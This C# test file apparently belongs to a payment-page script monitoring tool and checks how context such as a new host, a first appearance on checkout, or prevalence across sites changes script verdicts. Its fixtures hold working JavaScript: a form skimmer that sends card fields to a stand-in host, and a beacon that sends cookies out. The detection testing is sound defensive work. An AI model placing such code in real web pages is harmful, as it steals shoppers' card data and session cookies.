using Microsoft.EntityFrameworkCore;
using PageShield.Accounts;
using PageShield.Alerts;
using PageShield.Crawls;
using PageShield.Crawls.Captures;
using PageShield.Detection.Context;
using PageShield.Inventory;
using PageShield.Inventory.Scripts;
using PageShield.Reports;
using static PageShield.IntegrationTests.Inventory.Captures;

namespace PageShield.IntegrationTests.Detection;

public sealed class ContextTests
{
    private const string Home = "https://shop.example/";
    private const string Checkout = "https://shop.example/checkout";
    private const string Url = "https://cdn.stats.example/s.js";
    private const string Harmless = "function go(a) { return a + 1; } show(go(1));";

    /// <summary>Clean by itself, with two signs: it sends cookies, and loads a file under the page's name.</summary>
    private const string Counter = """
        window.addEventListener('beforeunload', function () { new Image().src = 'https://stats.example/p.gif?c=' + encodeURIComponent(document.cookie); });
        if (location.href.indexOf('checkout') > -1) { var s = document.createElement('script'); s.src = 'https://cdn.stats.example/' + location.hostname + '.js'; document.head.appendChild(s); }
        """;

    private const string Skimmer = """
        var form = document.querySelector('form#payment');
        form.addEventListener('submit', function () {
          var fields = {};
          form.querySelectorAll('input').forEach(function (field) { fields[field.name] = field.value; });
          new Image().src = 'https://metrics-cdn.example/p.gif?d=' + btoa(JSON.stringify(fields));
        });
        """;

    private static readonly CapturedScript Own = File("https://shop.example/app.js");

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task A_script_with_signs_that_comes_to_the_checkout_from_a_freshhost_is_suspicious_and_says_why(Provider provider)
    {
        await using var site = await JudgedSite.CreateAsync(provider);
        await site.CrawlAsync(Of(Home, (Own, Harmless)), Payment((Own, Harmless)));

        await site.CrawlAsync(Of(Home, (Own, Harmless)), Payment((Own, Harmless), (File(Url), Counter)));

        var script = await site.ScriptAsync(Url);
        var alone = await site.AskAsync(db => db.Judgements.AsNoTracking().SingleAsync(row => row.Sha256 == script.CurrentSha256, Cancel));
        Assert.Equal(VerdictKind.Clean, alone.Verdict);
        Assert.Equal(VerdictKind.Suspicious, script.Verdict);
        Assert.Equal(
            [(ContextLayer.NewHost, true), (ContextLayer.FirstOnPaymentPage, true)], Notes(script).Select(note => (note.Rule, note.IsCounted)));
        Assert.Equal(["cdn.stats.example", Checkout], Notes(script).Select(note => note.Evidence));
        var alert = await site.AskAsync(db => db.Alerts.AsNoTracking().SingleAsync(row => row.Event == AlertEvents.SuspiciousScript, Cancel));
        Assert.Contains("was first seen on a payment page", alert.Body, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_same_script_is_no_news_where_the_first_crawl_met_it()
    {
        await using var site = await JudgedSite.CreateAsync(Provider.Sqlite);

        await site.CrawlAsync(Payment((File(Url), Counter)));
        await site.CrawlAsync(Payment((File(Url), Counter)));

        var script = await site.ScriptAsync(Url);
        Assert.Equal((VerdictKind.Clean, null), (script.Verdict, script.Context));
    }

    [Fact]
    public async Task A_harmless_script_in_the_same_place_keeps_its_score_with_the_context_said()
    {
        await using var site = await JudgedSite.CreateAsync(Provider.Sqlite);
        await site.CrawlAsync(Of(Home, (Own, Harmless)));

        await site.CrawlAsync(Of(Home, (Own, Harmless)), Payment((File(Url), "show('hello');")));

        var script = await site.ScriptAsync(Url);
        Assert.Equal((VerdictKind.Clean, 99), (script.Verdict, script.Score));
        Assert.Equal(
            [(ContextLayer.NewHost, false), (ContextLayer.FirstOnPaymentPage, false)], Notes(script).Select(note => (note.Rule, note.IsCounted)));
        Assert.False(await site.AskAsync(db => db.Alerts.AnyAsync(row => row.Event == AlertEvents.SuspiciousScript, Cancel)));
    }

    [Fact]
    public async Task New_abilities_of_a_clean_script_count_until_somebody_has_reviewed_them()
    {
        await using var site = await JudgedSite.CreateAsync(Provider.Sqlite);
        await site.CrawlAsync(Of(Home, (File(Url), Harmless)));
        await site.CrawlAsync(Of(Home, (File(Url), Counter)));
        var before = await site.ScriptAsync(Url);

        await site.AskAsync(db => db.Changes.ExecuteUpdateAsync(set => set.SetProperty(change => change.ReviewedAt, site.Time.GetUtcNow()), Cancel));
        await site.CrawlAsync(Of(Home, (File(Url), Counter)));

        Assert.Equal((VerdictKind.Suspicious, ContextLayer.NewCapabilities), (before.Verdict, Assert.Single(Notes(before)).Rule));
        var after = await site.ScriptAsync(Url);
        Assert.Equal((VerdictKind.Clean, null), (after.Verdict, after.Context));
    }

    [Fact]
    public async Task News_is_no_news_after_a_month()
    {
        await using var site = await JudgedSite.CreateAsync(Provider.Sqlite);
        await site.CrawlAsync(Of(Home, (Own, Harmless)));
        await site.CrawlAsync(Of(Home, (Own, Harmless), (File(Url), Counter)));
        var fresh = await site.ScriptAsync(Url);

        site.Time.Advance(SiteContext.News);
        await site.CrawlAsync(Of(Home, (Own, Harmless), (File(Url), Counter)));

        Assert.Equal(VerdictKind.Suspicious, fresh.Verdict);
        Assert.Equal((VerdictKind.Clean, null), ((await site.ScriptAsync(Url)).Verdict, (await site.ScriptAsync(Url)).Context));
    }

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task What_has_run_on_other_sites_for_a_week_is_less_suspicious_and_a_skimmer_there_is_one_still(Provider provider)
    {
        await using var site = await JudgedSite.CreateAsync(provider);
        const string Other = "https://cdn.other.example/o.js";
        foreach (var host in new[] { "one.example", "two.example", "three.example" })
            await site.CrawlAsync(await site.AddSiteAsync(host), Of($"https://{host}/", (File(Url), Counter), (File(Other), Skimmer)));
        site.Time.Advance(TimeSpan.FromDays(8));
        await site.CrawlAsync(Of(Home, (Own, Harmless)));

        await site.CrawlAsync(Of(Home, (Own, Harmless), (File(Url), Counter), (File(Other), Skimmer)));

        var (counter, skimmer) = (await site.ScriptAsync(Url), await site.ScriptAsync(Other));
        Assert.Equal(VerdictKind.Clean, counter.Verdict);
        var note = Assert.Single(Notes(counter), note => note.Rule == ContextNote.Prevalence);
        Assert.Equal(("3 other sites", true), (note.Evidence, note.IsCounted));
        Assert.Equal(VerdictKind.Malicious, skimmer.Verdict);
        Assert.DoesNotContain(Notes(skimmer), each => each.IsCounted);
        Assert.Equal("", await EvidenceForMembersAsync(site, counter.Id));
    }

    [Theory]
    [InlineData(2, false)]
    [InlineData(3, true)]
    public async Task A_version_that_enough_visitors_ran_and_no_crawl_got_is_context_to_the_one_that_crawls_get(int reports, bool isSaid)
    {
        await using var site = await JudgedSite.CreateAsync(Provider.Sqlite);
        await site.CrawlAsync(Of(Home, (File(Url), Counter)));

        await site.ReportAsync(Url, Home, Sha256Hash.OfText("cloaked"), reports);

        var after = await site.ScriptAsync(Url);
        Assert.Equal(isSaid ? VerdictKind.Suspicious : VerdictKind.Clean, after.Verdict);
        Assert.Equal(isSaid ? [ContextLayer.OnlyVisitors] : [], Notes(after).Select(note => note.Rule));
    }

    private static Capture Payment(params (CapturedScript Script, string Text)[] scripts) => Of(Checkout, scripts) with
    {
        Forms = [new CapturedForm { DocumentUrl = Checkout, Action = Checkout, ServedAction = Checkout, Method = "POST",
            Fields = [new("cardnumber", "text", "cc-number"), new("cvc", "text", "cc-csc")] }],
    };

    private static IReadOnlyList<ContextNote> Notes(Script script) => ContextNote.ReadAll(script.Context);

    /// <summary>As an account of this site alone sees it.</summary>
    private static async Task<string?> EvidenceForMembersAsync(JudgedSite site, long scriptId)
    {
        SiteScope.Enter([site.SiteId]);
        var detail = await site.AskAsync(db => db.FindScriptAsync(site.SiteId, scriptId, Cancel));
        return detail?.Context.Single(note => note.Rule == ContextNote.Prevalence).Evidence;
    }
}
